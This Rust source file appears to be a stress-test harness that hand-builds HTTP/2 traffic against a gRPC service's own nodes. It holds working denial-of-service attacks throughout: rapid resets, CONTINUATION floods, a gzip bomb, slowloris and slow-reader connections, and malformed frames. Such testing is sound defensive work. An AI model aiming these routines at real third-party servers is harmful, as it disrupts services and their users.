//! Clients that no library would make: HTTP/2 by hand, so that nothing keeps them from breaking it.

use std::time::Duration;

use anyhow::Result;
use fastrand::Rng;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::timeout;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const LIST: &str = "/tidemill.v1.Deployments/List";
const PAUSE: &str = "/tidemill.v1.Deployments/Pause";
const WATCH: &str = "/tidemill.v1.Lag/Watch";
/// A WatchLagRequest: field 2, the interval, which is the shortest that there is.
const EVERY_100_MS: [u8; 2] = [0x10, 100];

/// Frame types.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

/// Flags of a HEADERS frame.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Flag of SETTINGS and PING.
const ACK: u8 = 1;
/// A setting.
const INITIAL_WINDOW_SIZE: u16 = 4;
/// What a node takes on one connection at once.
const STREAMS_PER_CONNECTION: u32 = 64;

/// Longest that one write or read of an attack may take; a server that has hung up ends it at once.
const IO_MAX: Duration = Duration::from_secs(2);

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = payload.len() as u32;
    [&length.to_be_bytes()[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// HPACK without a table and without Huffman codes.
fn field(name: &str, value: &[u8]) -> Vec<u8> {
    fn text(bytes: &[u8]) -> Vec<u8> {
        let mut out = Vec::new();
        if bytes.len() < 127 {
            out.push(bytes.len() as u8);
        } else {
            out.push(127);
            let mut rest = bytes.len() - 127;
            while rest >= 128 {
                out.push((rest % 128 + 128) as u8);
                rest /= 128;
            }
            out.push(rest as u8);
        }
        out.extend(bytes);
        out
    }
    [vec![0], text(name.as_bytes()), text(value)].concat()
}

fn call(path: &str, more: &[(&str, &[u8])]) -> Vec<u8> {
    let fields: [(&str, &[u8]); 6] = [
        (":method", b"POST"),
        (":scheme", b"http"),
        (":path", path.as_bytes()),
        (":authority", b"node"),
        ("content-type", b"application/grpc"),
        ("te", b"trailers"),
    ];
    fields.iter().chain(more).flat_map(|(name, value)| field(name, value)).collect()
}

/// A gRPC message as it lies in DATA.
fn message(compressed: bool, bytes: &[u8]) -> Vec<u8> {
    [&[u8::from(compressed)], &(bytes.len() as u32).to_be_bytes()[..], bytes].concat()
}

/// A connection that has said its first words.
async fn greet(address: &str) -> Result<TcpStream> {
    greet_with(address, &[]).await
}

/// The same with settings of its own.
async fn greet_with(address: &str, settings: &[u8]) -> Result<TcpStream> {
    let mut stream = timeout(IO_MAX, TcpStream::connect(address)).await??;
    put(&mut stream, &[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()).await;
    Ok(stream)
}

/// Sends as far as the server takes it: hanging up on an attack is a good answer.
async fn put(stream: &mut TcpStream, bytes: &[u8]) -> bool {
    matches!(timeout(IO_MAX, stream.write_all(bytes)).await, Ok(Ok(())))
}

/// Reads until the server is silent or has hung up; answers the bytes.
async fn listen(stream: &mut TcpStream) -> usize {
    let (mut bytes, mut buffer) = (0, vec![0; 64 << 10]);
    while let Ok(Ok(read)) = timeout(Duration::from_millis(200), stream.read(&mut buffer)).await {
        if read == 0 {
            break;
        }
        bytes += read;
    }
    bytes
}

/// Frames that break the protocol, each on a connection of its own, and plain noise.
pub async fn broken_frames(address: &str, rng: &mut Rng) -> Result<()> {
    let mut noise = vec![0; 4_096];
    rng.fill(&mut noise);
    let garbled: Vec<u8> = (0..64).map(|_| rng.u8(..)).collect();
    let frames = [
        noise.clone(),
        frame(HEADERS, END_HEADERS, 1, &garbled),
        frame(HEADERS, END_HEADERS, 2, &call(LIST, &[])),
        frame(HEADERS, 0, 1, &call(LIST, &[])),
        frame(CONTINUATION, END_HEADERS, 1, &call(LIST, &[])),
        frame(DATA, 0, 0, b"x"),
        frame(DATA, 0, 1, b"x"),
        frame(WINDOW_UPDATE, 0, 0, &[0; 4]),
        frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0xff, 0xff, 0xff]),
        frame(SETTINGS, 0, 0, &[1]),
        frame(PING, 0, 0, &[0; 7]),
        [&0xff_ffffu32.to_be_bytes()[1..], &[DATA, 0, 0, 0, 0, 1], &noise].concat(),
        frame(HEADERS, END_HEADERS | END_STREAM, 1, &call("/no.such.Service/Method", &[])),
        [
            frame(HEADERS, END_HEADERS, 1, &call(LIST, &[])),
            frame(DATA, END_STREAM, 1, &message(false, &noise)),
        ]
        .concat(),
        // A length that promises what never comes.
        [frame(HEADERS, END_HEADERS, 1, &call(LIST, &[])), frame(DATA, 0, 1, &[0, 0xff, 0xff, 0xff, 0xff])]
            .concat(),
    ];
    for bytes in frames {
        let mut stream = greet(address).await?;
        put(&mut stream, &bytes).await;
        listen(&mut stream).await;
    }
    let mut stream = TcpStream::connect(address).await?;
    put(&mut stream, &noise).await;
    listen(&mut stream).await;
    Ok(())
}

/// So many calls on one connection at once, whatever the server says about it.
pub async fn many_streams(address: &str, streams: u32) -> Result<()> {
    let mut stream = greet(address).await?;
    let block = call(LIST, &[]);
    for number in 0..streams {
        let opened = frame(HEADERS, END_HEADERS, 2 * number + 1, &block);
        if !put(&mut stream, &opened).await {
            break;
        }
    }
    listen(&mut stream).await;
    Ok(())
}

/// Calls that are taken back as soon as they are made.
pub async fn rapid_resets(address: &str, resets: u32) -> Result<()> {
    let mut stream = greet(address).await?;
    let block = call(LIST, &[]);
    for number in 0..resets {
        let id = 2 * number + 1;
        let opened = frame(HEADERS, END_HEADERS, id, &block);
        if !put(&mut stream, &[opened, frame(RST_STREAM, 0, id, &8u32.to_be_bytes())].concat()).await {
            break;
        }
    }
    listen(&mut stream).await;
    Ok(())
}

/// Connections that are cut in the middle of their first words.
pub async fn abrupt_ends(address: &str, ends: u32) -> Result<()> {
    for number in 0..ends {
        let mut stream = timeout(IO_MAX, TcpStream::connect(address)).await??;
        put(&mut stream, &PREFACE[..(number as usize % PREFACE.len())]).await;
        stream.set_zero_linger()?;
    }
    Ok(())
}

/// Headers without an end.
pub async fn endless_headers(address: &str) -> Result<()> {
    let mut stream = greet(address).await?;
    let large = field("x-large", &[b'x'; 16_000]);
    put(&mut stream, &frame(HEADERS, 0, 1, &call(LIST, &[]))).await;
    for _ in 0..1_000 {
        if !put(&mut stream, &frame(CONTINUATION, 0, 1, &large)).await {
            break;
        }
    }
    listen(&mut stream).await;
    Ok(())
}

/// A message that is small on the wire and large once unpacked.
pub async fn gzip_bomb(address: &str) -> Result<()> {
    use std::io::Write;
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    packed.write_all(&vec![0; 100 << 20])?;
    let packed = packed.finish()?;
    let mut stream = greet(address).await?;
    let block = call("/tidemill.v1.State/Get", &[("grpc-encoding", b"gzip")]);
    put(&mut stream, &frame(HEADERS, END_HEADERS, 1, &block)).await;
    let bytes = message(true, &packed);
    let mut chunks = bytes.chunks(16_000).peekable();
    while let Some(chunk) = chunks.next() {
        let flags = if chunks.peek().is_none() { END_STREAM } else { 0 };
        if !put(&mut stream, &frame(DATA, flags, 1, chunk)).await {
            break;
        }
    }
    listen(&mut stream).await;
    Ok(())
}

/// Connections that each ask for four streams of lag, as often as they can be had, and never read them: less
/// than an answer fits their windows, so that the node is held up in the first one. They live as long as
/// what is returned.
pub async fn slow_readers(address: &str, readers: u32) -> Result<Vec<TcpStream>> {
    let settings = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &16u32.to_be_bytes()].concat();
    let mut held = Vec::new();
    for _ in 0..readers {
        let mut stream = greet_with(address, &settings).await?;
        for number in 0..4 {
            let id = 2 * number + 1;
            let asked = [
                frame(HEADERS, END_HEADERS, id, &call(WATCH, &[])),
                frame(DATA, END_STREAM, id, &message(false, &EVERY_100_MS)),
            ];
            put(&mut stream, &asked.concat()).await;
        }
        held.push(stream);
    }
    Ok(held)
}

/// Calls that have sent a part of their message and never send the rest, on connections that answer all that
/// keeps them alive. They last as long as what is returned, or until the server ends them.
pub async fn half_open_calls(address: &str, calls: u32) -> Result<JoinSet<()>> {
    let mut held = JoinSet::new();
    for _ in 0..calls.div_ceil(STREAMS_PER_CONNECTION) {
        let mut stream = greet(address).await?;
        for number in 0..STREAMS_PER_CONNECTION {
            let (id, path) = (2 * number + 1, if number % 2 == 0 { LIST } else { PAUSE });
            let begun = [
                frame(HEADERS, END_HEADERS, id, &call(path, &[])),
                frame(DATA, 0, id, &message(false, &[0; 100])[..10]),
            ];
            put(&mut stream, &begun.concat()).await;
        }
        held.spawn(stay(stream));
    }
    Ok(held)
}

/// Acknowledges settings and pings until the server hangs up.
async fn stay(mut stream: TcpStream) {
    let mut head = [0; 9];
    while stream.read_exact(&mut head).await.is_ok() {
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = vec![0; length as usize];
        if stream.read_exact(&mut payload).await.is_err() {
            return;
        }
        let answer = match (head[3], head[4]) {
            (SETTINGS, 0) => frame(SETTINGS, ACK, 0, &[]),
            (PING, 0) => frame(PING, ACK, 0, &payload),
            _ => continue,
        };
        if !put(&mut stream, &answer).await {
            return;
        }
    }
}

/// Connections that are about to say something. They live as long as what is returned.
pub async fn slow_lorises(address: &str, lorises: u32) -> Result<Vec<TcpStream>> {
    let mut held = Vec::new();
    for number in 0..lorises {
        let mut stream = timeout(IO_MAX, TcpStream::connect(address)).await??;
        put(&mut stream, &PREFACE[..(number as usize % 3)]).await;
        held.push(stream);
    }
    Ok(held)
}
